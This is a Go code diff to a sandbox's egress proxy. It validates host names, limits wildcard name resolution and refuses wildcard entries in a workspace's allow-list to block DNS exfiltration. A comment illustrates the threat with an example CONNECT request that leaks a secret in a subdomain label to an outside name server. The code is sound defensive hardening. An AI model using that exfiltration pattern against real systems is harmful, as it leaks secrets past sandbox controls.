@@ -11,8 +11,12 @@
 // URL (http://host/...). The proxy, not the sandbox, resolves every name and
 // checks every address it would connect to, so:
 //
-//   - a name must match a name entry (and its port), and is only resolved
-//     then (a command cannot make the worker look up arbitrary names);
+//   - a name must be a host name and match a name entry (and its port),
+//     and is only resolved then (a command cannot make the worker look up
+//     arbitrary names); a name only a wildcard entry matches is one the
+//     command chose, so at most MaxWildcardNames of those are resolved per
+//     endpoint (a workspace's own wildcard entries are refused:
+//     WorkspaceEntryRefusal);
 //   - each address a name resolves to must be public, or covered by an
 //     address entry (IP or CIDR, with its port): loopback, private,
 //     link-local, CGNAT, unspecified, multicast, broadcast, benchmarking and
@@ -139,14 +143,51 @@ func ParseRules(entries []string) (Rules, error) {
 	return sandboxapi.ParseNetworkAllow("network_allow", entries)
 }
 
-// nameAllowed reports whether a name entry matches host:port.
-func (rs Rules) nameAllowed(host string, port uint16) bool {
+// nameAllowed reports whether a name entry matches host:port, and whether
+// only wildcard entries do (the name itself was chosen by whoever asks).
+func (rs Rules) nameAllowed(host string, port uint16) (allowed, viaWildcard bool) {
 	for _, r := range rs {
 		if r.MatchesName(host) && r.MatchesPort(port) {
-			return true
+			if !r.Wildcard {
+				return true, false
+			}
+			allowed, viaWildcard = true, true
 		}
 	}
-	return false
+	return allowed, viaWildcard
+}
+
+// validHostName reports whether host (lowercase, no final dot) is a DNS
+// host name: labels of 1 to 63 letters, digits, '-' and '_', not starting
+// or ending with '-', at most 253 bytes in all. The proxy resolves nothing
+// else.
+func validHostName(host string) bool {
+	if len(host) == 0 || len(host) > 253 {
+		return false
+	}
+	label := 0
+	for i := 0; i < len(host); i++ {
+		switch c := host[i]; {
+		case c == '.':
+			if label == 0 || host[i-1] == '-' {
+				return false
+			}
+			label = 0
+			continue
+		case c == '-':
+			if label == 0 {
+				return false
+			}
+		case c >= 'a' && c <= 'z', c >= '0' && c <= '9', c == '_':
+		default:
+			return false
+		}
+		label++
+		if label > 63 {
+			return false
+		}
+	}
+	return label > 0 && host[len(host)-1] != '-'
 }
 
 // addrAllowed reports whether an address entry covers a:port.
@@ -234,13 +275,20 @@ func HostAddrs() []netip.Addr {
 // allow-list entries ("" when it may): an address entry that covers a
 // loopback or unspecified address or one of own (the worker host's
 // addresses, HostAddrs) would let the workspace's
-// requester open the worker's own services (docs/SECURITY.md "The egress
-// proxy"); only the worker's list (SANDBOX_NETWORK_ALLOW) may name those.
-// Name entries are always accepted: what a name resolves to is checked by
-// the proxy on every connection. (Metadata addresses are never reached
-// whatever the list says.)
+// requester open the worker's own services, and a wildcard name entry
+// would let the workspace's commands make the worker resolve names of
+// their choosing below it (DNS exfiltration: "CONNECT
+// <secret>.example.com:443" sends the label to example.com's name
+// servers) (docs/SECURITY.md "The egress proxy"); only the worker's list
+// (SANDBOX_NETWORK_ALLOW) may name those. Exact name entries are always
+// accepted: what a name resolves to is checked by the proxy on every
+// connection. (Metadata addresses are never reached whatever the list
+// says.)
 func WorkspaceEntryRefusal(r sandboxapi.NetworkRule, own []netip.Addr) string {
 	if r.IsName() {
+		if r.Wildcard {
+			return "a wildcard would let the workspace's commands make the worker resolve names of their choosing below " + r.Host + " (DNS exfiltration); name each host exactly"
+		}
 		return ""
 	}
 	for _, g := range guardedPrefixes {
